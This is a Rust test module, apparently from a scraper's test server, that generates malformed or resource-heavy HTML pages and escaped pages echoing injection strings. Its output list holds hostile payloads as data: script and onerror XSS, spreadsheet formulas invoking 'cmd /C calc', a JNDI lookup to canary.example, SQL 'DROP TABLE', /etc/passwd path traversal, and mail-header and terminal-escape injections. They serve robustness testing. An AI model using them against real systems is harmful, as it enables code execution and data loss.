//! Pages that are hard to read, each with the number of an ad in it; and pages made to be dangerous where they are shown.

use super::{
    super::is_full,
    Asked,
    reply::{Reply, html, page},
};

/// The number, which must be found wherever a reader of the page would see it.
const CALL: &str = "Call (202) 555-0147 today.";

fn ad(before: &str, after: &str) -> String {
    format!("<article><h1>Ad</h1>{before}<p>{CALL}</p>{after}</article>")
}

/// A page in this charset, as bytes.
fn coded(charset: &str, bytes: &[u8]) -> Reply {
    page(
        200,
        &format!("content-type: text/html; charset={charset}\r\n"),
        bytes,
    )
}

/// So many in full, and few of them otherwise: without optimisation reading takes fifty times as long.
pub fn times(count: usize) -> usize {
    if is_full() { count } else { count / 50 }
}

/// So many pieces.
fn many(count: usize, piece: impl Fn(usize) -> String) -> String {
    (0..count).map(piece).collect()
}

pub fn html_reply(asked: &Asked) -> Option<Reply> {
    let plain = ad("", "");
    let utf_16 = |text: &str| {
        text.encode_utf16()
            .flat_map(u16::to_le_bytes)
            .collect::<Vec<_>>()
    };
    Some(match asked.input.strip_prefix("html-")? {
        "nested-100000" => html(&ad("", &"<div>".repeat(times(100_000)))),
        "nested-formatting" => html(&ad(
            "",
            &many(times(20_000), |nth| format!("<b id={nth}><p>")),
        )),
        "nested-tables" => html(&ad("", &"<table><tr><td>".repeat(times(5_000)))),
        "nested-foreign" => html(&ad("", &"<svg><math><mi>".repeat(times(5_000)))),
        "nested-templates" => html(&ad("", &"<template>".repeat(times(10_000)))),
        "nested-json" => html(&ad(
            &format!(
                "<script type=application/ld+json>{}</script>",
                "[".repeat(times(100_000))
            ),
            "",
        )),
        "attributes-1000000" => html(&ad(
            &format!(
                "<i{}>x</i>",
                many(times(1_000_000), |nth| format!(" a{nth}"))
            ),
            "",
        )),
        "text-of-50-mib" => html(&ad("", &"word ".repeat(10 << 20))),
        "text-of-1-mib" => html(&ad("", &"word ".repeat(times(200_000)))),
        "tag-name-of-1-mib" => html(&ad("", &format!("<{}>", "x".repeat(times(1 << 20))))),
        "entity-of-1-mib" => html(&ad("", &format!("&{}", "x".repeat(times(1 << 20))))),
        "entities-100000" => html(&ad("", &"&NotNestedGreaterGreater;".repeat(times(100_000)))),
        "elements-1000000" => html(&ad("", &"<br>".repeat(times(1_000_000)))),
        "links-100000" => html(&ad(
            "",
            &many(times(100_000), |nth| format!("<a href=/{nth}>x</a>")),
        )),
        "unclosed-script" => html(&ad("", "<script>var a = '")),
        "unclosed-comment" => html(&ad("", "<!-- and nothing more")),
        "unclosed-attribute" => html(&ad("", "<i title=\"and nothing more")),
        "plaintext" => html(&ad("", "<plaintext></article>")),
        "doctype-of-1-mib" => html(&format!("<!doctype {}>{plain}", "x".repeat(times(1 << 20)))),
        "styles-20000" => html(&ad(
            &format!(
                "<style>{}</style>",
                many(times(20_000), |nth| format!(
                    ".c{nth} > *:nth-child({nth}n) ~ p{{display:none}}"
                ))
            ),
            "",
        )),
        "styles-nested" => html(&ad(
            &format!("<style>{}p{{}}</style>", ":is(:not(".repeat(times(5_000))),
            "",
        )),
        "base-of-a-script" => html(&format!("<base href=\"javascript:alert(1)//\">{plain}")),
        "utf-7" => coded("utf-7", format!("+ADw-script+AD4-{plain}").as_bytes()),
        "utf-16-that-is-not" => coded("utf-16", &utf_16(&plain)),
        "utf-16-unlabelled" => page(
            200,
            "content-type: text/html\r\n",
            &utf_16(&format!("\u{feff}{plain}")),
        ),
        "utf-16-cut-off" => coded("utf-16le", &utf_16(&plain)[..utf_16(&plain).len() - 1]),
        "charset-unknown" => coded("klingon", plain.as_bytes()),
        "charset-replaced" => coded("iso-2022-kr", plain.as_bytes()),
        "charset-of-two" => coded("utf-8", &[plain.as_bytes(), b"\xff\xfe\xe9\x80"].concat()),
        "surrogates" => coded(
            "utf-8",
            &[
                plain.as_bytes(),
                b"\xed\xa0\x80\xed\xb0\x80&#xd800;&#xdfff;&#x110000;&#0;",
            ]
            .concat(),
        ),
        "controls" => html(&ad(
            "",
            &many(200, |nth| {
                char::from_u32(nth as u32)
                    .map(String::from)
                    .unwrap_or_default()
            }),
        )),
        "number-with-zero-width" => html(
            "<article><h1>Ad</h1><p>Call (202)\u{200b} 555\u{2060}-0\u{feff}1\u{200d}47 today.</p></article>",
        ),
        "number-with-bidi" => {
            html("<article><h1>Ad</h1><p>Call \u{2066}(202) 555-0147\u{2069} today.</p></article>")
        }
        "number-turned-round" => {
            html("<article><h1>Ad</h1><p>Call \u{202e}7410-555 )202(\u{202c} today.</p></article>")
        }
        "number-with-nul" => {
            html("<article><h1>Ad</h1><p>Call (202) 555-01\u{0}47 today.</p></article>")
        }
        "number-of-100000-digits" => html(&ad("", &format!("<p>{}", "5".repeat(times(100_000))))),
        "digits-apart" => html(&ad("", &format!("<p>{}", "5 ".repeat(times(50_000))))),
        "marks-on-marks" => html(&ad(
            "",
            &format!("<p>5{}", "\u{301}".repeat(times(100_000))),
        )),
        "at-signs" => html(&ad("", &format!("<p>{}", "@".repeat(times(100_000))))),
        "dots" => html(&ad("", &format!("<p>{}", "a.".repeat(times(50_000))))),
        "addresses-in-addresses" => {
            html(&ad("", &format!("<p>{}", "http://".repeat(times(20_000)))))
        }
        "number-words" => html(&ad("", &format!("<p>{}", "zero ".repeat(times(20_000))))),
        "spaces" => html(&ad(
            "",
            &format!("<pre>{}x</pre>", " ".repeat(times(1 << 20))),
        )),
        _ => return None,
    })
}

pub fn output_reply(asked: &Asked) -> Option<Reply> {
    let said = match asked.input.strip_prefix("output-")? {
        "script" => "<script>alert('canary')</script>",
        "image-with-a-handler" => "<img src=x onerror=alert('canary')>",
        "end-of-textarea" => "</textarea></title></style><script>canary()</script>",
        "attribute" => "\" onmouseover=\"canary()\" x=\"",
        "formula" => "=cmd|' /C calc'!A0",
        "formula-plus" => "+1+cmd|' /C calc'!A0",
        "formula-minus" => "-2+3+cmd|' /C calc'!A0",
        "formula-at" => "@SUM(1+1)*cmd|' /C calc'!A0",
        "formula-tab" => "\t=1+1",
        "formula-return" => "\r=1+1",
        "mail-header" => "x\r\nBcc: canary@example.net\r\n\r\nbody",
        "mail-dot" => "x\r\n.\r\nMAIL FROM:<canary@example.net>",
        "terminal-colour" => "\u{1b}[31mcanary\u{1b}[2J\u{1b}]0;canary\u{7}",
        "terminal-c1" => "\u{9b}31mcanary\u{9d}0;canary\u{9c}",
        "bidi-override" => "canary\u{202e}gpj.exe",
        "bidi-isolates" => "\u{2066}\u{2067}canary",
        "template" => "{{ 7 * 7 }}{% for x in range(1000000) %}canary{% endfor %}",
        "format" => "%s%n%x ${jndi:ldap://canary.example/a} $(canary) `canary`",
        "markdown" => {
            "[click](javascript:canary) ![x](http://canary.example/x.png) <!channel> <@U1> *_~"
        }
        "json" => "\",\"canary\":true,\"x\":\"\u{2028}\u{2029}",
        "sql" => "'); DROP TABLE listing; --",
        "path" => "../../../../etc/passwd\0.jpg",
        "newlines" => "one\n2026-01-01T00:00:00Z ERROR canary\ntwo",
        _ => return None,
    };
    // As text, so that the page says it and is not changed by it.
    let text = said
        .replace('&', "&amp;")
        .replace('<', "&lt;")
        .replace('>', "&gt;");
    let text = text
        .replace('\t', "&#9;")
        .replace('\r', "&#13;")
        .replace('\n', "&#10;");
    Some(html(&format!(
        "<article><h1>{text}</h1><p class=price>{text}</p><p>{text} {CALL} {text}</p></article>"
    )))
}
